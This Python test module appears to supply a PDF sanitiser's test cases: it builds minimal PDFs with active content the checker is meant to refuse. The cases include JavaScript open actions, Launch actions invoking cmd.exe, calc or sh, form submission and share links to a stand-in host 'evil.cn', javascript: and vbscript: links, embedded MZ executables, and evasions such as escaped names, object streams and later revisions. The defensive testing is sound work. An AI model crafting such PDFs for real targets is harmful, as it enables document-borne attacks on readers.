"""PDFs that do something: scripts, launches, media, attachments, forms that send."""

from __future__ import annotations

import functools
import io
import zlib

import pikepdf

from core.files.checks import Refusal
from tests.core.files.corpus import Case, page_pdf, stream

_ACTIVE = frozenset({Refusal.ACTIVE_CONTENT})
_CARRIED = frozenset({Refusal.EMBEDDED_FILE})
_JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
_SCRIPT_STREAM = stream(b"app.alert(1)")
_FILE = stream(b"MZ\x90\x00", b"/Type /EmbeddedFile")
_SPEC = b"<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 6 0 R >> >>"


def _annotation(body: bytes, *more: bytes) -> bytes:
    return page_pdf(
        b"<< /Type /Annot /Rect [0 0 90 90] %s >>" % body, *more, page=b"/Annots [6 0 R]"
    )


def _link(action: bytes) -> bytes:
    return _annotation(b"/Subtype /Link /A %s" % action)


def _packed(data: bytes) -> bytes:
    """The same objects hidden in compressed object streams."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def _incremental(data: bytes, number: int, body: bytes) -> bytes:
    """A second revision that replaces one object."""
    last = int(data.rpartition(b"startxref")[2].split()[0])
    place = len(data)
    added = b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = place + len(added)
    return (
        data
        + added
        + (
            b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size 20 /Root 1 0 R /Prev %d >>\n"
            b"startxref\n%d\n%%%%EOF\n" % (number, place, last, table)
        )
    )


def _scripts() -> dict[str, bytes]:
    plain = page_pdf(catalog=b"/OpenAction " + _JS)
    tree = b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"
    return {
        "opening script": plain,
        "opening script, indirect": page_pdf(_JS, catalog=b"/OpenAction 6 0 R"),
        "script in a stream": page_pdf(
            b"<< /S /JavaScript /JS 7 0 R >>", _SCRIPT_STREAM, catalog=b"/OpenAction 6 0 R"
        ),
        "script name tree": page_pdf(_JS, catalog=tree),
        "script beside an empty one": page_pdf(
            b"<< /S /JavaScript /JS () >>",
            _JS,
            catalog=b"/Names << /JavaScript << /Names [(a) 6 0 R (b) 7 0 R] >> >>",
        ),
        "script after an empty one": page_pdf(
            catalog=b"/OpenAction << /S /JavaScript /JS () /Next " + _JS + b" >>"
        ),
        "empty script with kids": page_pdf(
            b"<< /S /JavaScript /JS () >>",
            b"<< /Names [(b) 8 0 R] >>",
            _JS,
            catalog=b"/Names << /JavaScript << /Names [(a) 6 0 R] /Kids [7 0 R] >> >>",
        ),
        "script name tree with kids": page_pdf(
            b"<< /Names [(a) 7 0 R] >>",
            _JS,
            catalog=b"/Names << /JavaScript << /Kids [6 0 R] >> >>",
        ),
        "name written #4aavaScript": page_pdf(
            catalog=b"/OpenAction << /S /#4aavaScript /#4aS (app.alert(1)) >>"
        ),
        "every letter escaped": page_pdf(
            catalog=b"/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 /#4a#53 (x) >>"
        ),
        "hex string": page_pdf(catalog=b"/OpenAction << /S /JavaScript /JS <6170702e> >>"),
        "in an object stream": _packed(plain),
        "in the second revision": _incremental(
            page_pdf(), 1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % _JS
        ),
        "in a link": _link(_JS),
        "as a next action": _link(b"<< /S /URI /URI (https://a.cn) /Next %s >>" % _JS),
        "as a next action in a list": _link(b"<< /S /GoTo /D [3 0 R /Fit] /Next [%s] >>" % _JS),
        "page opened": page_pdf(page=b"/AA << /O %s >>" % _JS),
        "page closed": page_pdf(page=b"/AA << /C << /S /Named /N /Print >> >>"),
        "document closed": page_pdf(catalog=b"/AA << /WC %s >>" % _JS),
        "field keystroke": _annotation(b"/Subtype /Widget /FT /Tx /T (a) /AA << /K %s >>" % _JS),
        "bookmark": page_pdf(
            b"<< /First 7 0 R /Last 7 0 R /Count 1 >>",
            b"<< /Title (x) /Parent 6 0 R /A %s >>" % _JS,
            catalog=b"/Outlines 6 0 R",
        ),
        "orphan not reachable": page_pdf(_JS),
        "deep in arrays": page_pdf(page=b"/Junk [[[[[[ %s ]]]]]]" % _JS),
        "in the trailer": page_pdf(trailer=b"/Extra " + _JS),
        "in a stream's dictionary": page_pdf(stream(b"x", b"/Extra " + _JS)),
        "rendition script": _annotation(b"/Subtype /Link /A << /S /Rendition /JS (a) >>"),
        "with a Type of structure": page_pdf(b"<< /Type /StructElem /S /JavaScript /JS (a) >>"),
        "upper case trick": page_pdf(catalog=b"/OpenAction << /S /JavaScript#20 /JS (a) >>"),
    }


def _actions() -> dict[str, bytes]:
    return {
        "launch": page_pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "launch on Windows": _link(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        "launch on Unix": _link(b"<< /S /Launch /Unix (sh) >>"),
        "launch, escaped": _link(b"<< /S /L#61unch /F (x) >>"),
        "submit form": _link(b"<< /S /SubmitForm /F (https://evil.cn) /Flags 0 >>"),
        "submit form in a button": _annotation(
            b"/Subtype /Widget /FT /Btn /T (b) /A << /S /SubmitForm /F (https://evil.cn) >>"
        ),
        "import data": _link(b"<< /S /ImportData /F (a.fdf) >>"),
        "remote go-to": _link(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>"),
        "remote go-to at opening": page_pdf(catalog=b"/OpenAction << /S /GoToR /F (a.pdf) >>"),
        "embedded go-to": _link(b"<< /S /GoToE /T << /R /C /N (a) >> >>"),
        "print at opening": page_pdf(catalog=b"/OpenAction << /S /Named /N /Print >>"),
        "web address at opening": page_pdf(
            catalog=b"/OpenAction << /S /URI /URI (https://a.cn) >>"
        ),
        "javascript: link": _link(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"),
        "javascript: link in capitals": _link(b"<< /S /URI /URI ( JaVaScRiPt:alert\\(1\\)) >>"),
        "file: link": _link(b"<< /S /URI /URI (file:///c:/windows/system32/calc.exe) >>"),
        "file: share": _link(b"<< /S /URI /URI (file://evil/share) >>"),
        "share link": _link(b"<< /S /URI /URI (\\\\\\\\evil\\\\share) >>"),
        "data: link": _link(b"<< /S /URI /URI (data:text/html;base64,PHNjcmlwdD4=) >>"),
        "vbscript: link": _link(b"<< /S /URI /URI (vbscript:msgbox) >>"),
        "ms-word: link": _link(b"<< /S /URI /URI (ms-word:ofe|u|https://evil.cn/a.docx) >>"),
        "link without text": _link(b"<< /S /URI /URI 17 >>"),
    }


def _media() -> dict[str, bytes]:
    return {
        "rich media": _annotation(b"/Subtype /RichMedia /RichMediaContent << >>"),
        "movie": _annotation(b"/Subtype /Movie /Movie << /F (a.avi) >>"),
        "sound annotation": _annotation(b"/Subtype /Sound /Sound 7 0 R", stream(b"x")),
        "sound action": _link(b"<< /S /Sound /Sound 7 0 R >>"),
        "movie action": _link(b"<< /S /Movie /T (a) >>"),
        "screen": _annotation(b"/Subtype /Screen /T (a)"),
        "rendition": _link(b"<< /S /Rendition /OP 0 >>"),
        "3D": _annotation(b"/Subtype /3D /3DD 7 0 R", stream(b"x", b"/Type /3D")),
        "3D view": _link(b"<< /S /GoTo3DView >>"),
        "rich media run": _link(b"<< /S /RichMediaExecute /CMD << /C (a) >> >>"),
        "PostScript drawing": page_pdf(
            stream(b"quit", b"/Type /XObject /Subtype /PS"), resources=b"/XObject << /X 6 0 R >>"
        ),
        "drawing kept in another file": page_pdf(
            stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (a.pdf) >>")
        ),
        "OPI": page_pdf(stream(b"", b"/Subtype /Form /BBox [0 0 1 1] /OPI << /x << >> >>")),
    }


def attached() -> dict[str, bytes]:
    """Files that hang at the whole document: left behind by the clean copy."""
    tree = b"/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >>"
    return {
        "attachment": page_pdf(_FILE, _SPEC, catalog=tree),
        "attachment, packed": _packed(page_pdf(_FILE, _SPEC, catalog=tree)),
        "associated file": page_pdf(_FILE, _SPEC, catalog=b"/AF [7 0 R]"),
    }


def _carried() -> dict[str, bytes]:
    return {
        "associated file of a page": page_pdf(_FILE, _SPEC, page=b"/AF 7 0 R"),
        "associated file without a file": page_pdf(
            catalog=b"/AF [<< /Type /Filespec /F (http://evil.cn/a) >>]"
        ),
        "attachment annotation": _annotation(b"/Subtype /FileAttachment /FS 7 0 R", _SPEC),
        "orphan embedded file": page_pdf(_FILE),
        "embedded file, name escaped": page_pdf(stream(b"MZ", b"/Type /Embedded#46ile")),
        "portfolio": page_pdf(catalog=b"/Collection << /Type /Collection /View /D >>"),
        "stream kept in another file": page_pdf(stream(b"", b"/F (c:\\\\a.bin)")),
        "embedded file, packed twice": page_pdf(
            stream(
                zlib.compress(zlib.compress(b"MZ")),
                b"/Type /EmbeddedFile /Filter [/FlateDecode /FlateDecode]",
            )
        ),
    }


def _forms() -> dict[str, bytes]:
    return {
        "XFA stream": page_pdf(stream(b"<xdp/>"), catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>"),
        "XFA list": page_pdf(
            stream(b"<xdp/>"), catalog=b"/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>"
        ),
        "XFA, name escaped": page_pdf(catalog=b"/AcroForm << /Fields [] /X#46A (x) >>"),
        "XFA in an indirect form": page_pdf(
            b"<< /Fields [] /XFA (x) >>", catalog=b"/AcroForm 6 0 R"
        ),
    }


@functools.cache
def cases() -> list[Case]:
    groups = [
        ("script", _scripts, _ACTIVE),
        ("action", _actions, _ACTIVE),
        ("media", _media, _ACTIVE),
        ("carried file", _carried, _CARRIED),
        ("dynamic form", _forms, frozenset({Refusal.DYNAMIC_FORM})),
    ]
    return [
        Case(family, name, "paper.pdf", lambda make=make, name=name: make()[name], codes)
        for family, make, codes in groups
        for name in make()
    ]
